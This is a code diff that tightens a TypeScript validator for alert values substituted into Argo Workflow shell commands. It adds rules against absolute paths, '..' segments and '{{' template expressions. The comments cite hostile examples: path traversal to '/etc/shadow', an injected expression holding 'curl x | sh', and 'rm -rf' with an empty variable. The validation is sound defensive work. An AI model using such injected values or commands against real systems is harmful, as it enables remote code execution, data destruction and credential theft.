@@ -7,8 +7,13 @@
  * every shell metacharacter (`; | & $ \` ' " \ < > ( ) { } [ ] * ? ! ~ #`), control characters and all non-ASCII
  * (fullwidth `；`, zero-width and bidirectional-override characters look harmless on screen but are not).
  * Further, a raw value may not be empty (`rm -rf /data/{{.dir}}` with an empty dir), may not start with `-` (it
- * would be read as a command-line option: `kubectl cordon --kubeconfig=/x`) and may not be longer than
- * {@link maxRawValueLength} characters.
+ * would be read as a command-line option: `kubectl cordon --kubeconfig=/x`), may not start with `/` or contain a
+ * `..` path segment (`kubectl cordon ../../etc`, `cat /data/{{.file}}` with `../../etc/shadow`: a value names
+ * something, it does not walk the file system) and may not be longer than {@link maxRawValueLength} characters.
+ *
+ * No alert-derived value may contain `{{`, quoted or not (see {@link argoExpressionProblem}): Argo evaluates
+ * `{{…}}` (and `{{=…}}` expressions) in the Workflow it runs, after the shell quoting is done, so a quoted
+ * `'{{=sprig.squote("; curl x | sh; #")}}'` would close its own quote at run time.
  *
  * `{{shellquote .x}}` is the explicit way to use any other value: it yields exactly one POSIX shell word. Quoting
  * makes it one word, not an operand: a quoted value that starts with `-` is still an option to the command that
@@ -28,20 +33,38 @@ export const maxRawValueLength = 1024;
 export type RawValueProblem =
   | { kind: 'character'; character: string; index: number }
   | { kind: 'empty' }
+  | { kind: 'argo-expression' }
   | { kind: 'leading-dash' }
+  | { kind: 'leading-slash' }
+  | { kind: 'parent-segment' }
   | { kind: 'too-long'; length: number };
 
 /** Checks a value for a raw substitution (see the file comment for the rules). */
 export function rawValueProblem(value: string): RawValueProblem | undefined {
   if (value === '') return { kind: 'empty' };
   if (value.length > maxRawValueLength) return { kind: 'too-long', length: value.length };
+  if (value.includes('{{')) return { kind: 'argo-expression' };
   if (!rawSafePattern.test(value)) {
     const match = rawUnsafeCharacter.exec(value);
     const character = match?.[0] ?? value.charAt(0);
     return { kind: 'character', character, index: match?.index ?? 0 };
   }
   if (value.startsWith('-')) return { kind: 'leading-dash' };
+  if (value.startsWith('/')) return { kind: 'leading-slash' };
+  if (value.split('/').includes('..')) return { kind: 'parent-segment' };
   return undefined;
+}
+
+/**
+ * Why an alert-derived value may not reach an Argo Workflow at all, quoted or not; undefined when it may. Argo
+ * treats `{{` as the start of a template tag (`{{inputs.parameters.x}}`, `{{workflow.name}}`) or, with `{{=`, of
+ * an expression it evaluates, so a value containing it would be run by Argo rather than passed as data.
+ */
+export function argoExpressionProblem(value: string): string | undefined {
+  const index = value.indexOf('{{');
+  if (index < 0) return undefined;
+  const tag = /^\{\{\s*=/.test(value.slice(index, index + 40)) ? 'an Argo expression "{{="' : '"{{"';
+  return `contains ${tag} at index ${index}, which Argo would evaluate when the Workflow runs; alert values are data, never Argo templates or expressions`;
 }
 
 /** True when `value` may be substituted raw. */
@@ -53,6 +76,8 @@ const bidiControls = /[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/u;
 
 /** Why a value cannot be shell-quoted; undefined when it can. */
 export function shellQuoteProblem(value: string): string | undefined {
+  const expression = argoExpressionProblem(value);
+  if (expression !== undefined) return expression;
   const nul = value.indexOf('\u0000');
   if (nul >= 0) return `contains ${describeCharacter('\u0000')}, which cannot be passed to a command`;
   const bidi = bidiControls.exec(value);
@@ -105,6 +130,12 @@ export function describeRawValueProblem(
       return `variable "${variable}" is empty (an empty raw substitution silently changes a command); test it with {{if ${goExpression}}} or ${fix}`;
     case 'leading-dash':
       return `${subject} starts with "-" and would be read as a command-line option; refused in a raw substitution (if it must be used, ${fix} and put -- before it)`;
+    case 'argo-expression':
+      return `${subject} ${argoExpressionProblem(value) ?? 'contains "{{"'}`;
+    case 'leading-slash':
+      return `${subject} starts with "/" (an absolute path); refused in a raw substitution, where a value names something and does not choose a path (if it must be used, ${fix})`;
+    case 'parent-segment':
+      return `${subject} contains a ".." path segment; refused in a raw substitution, where a value names something and does not walk the file system (if it must be used, ${fix})`;
     case 'too-long':
       return `${subject} is ${problem.length} characters long (at most ${maxRawValueLength} allowed in a raw substitution); ${fix}`;
   }
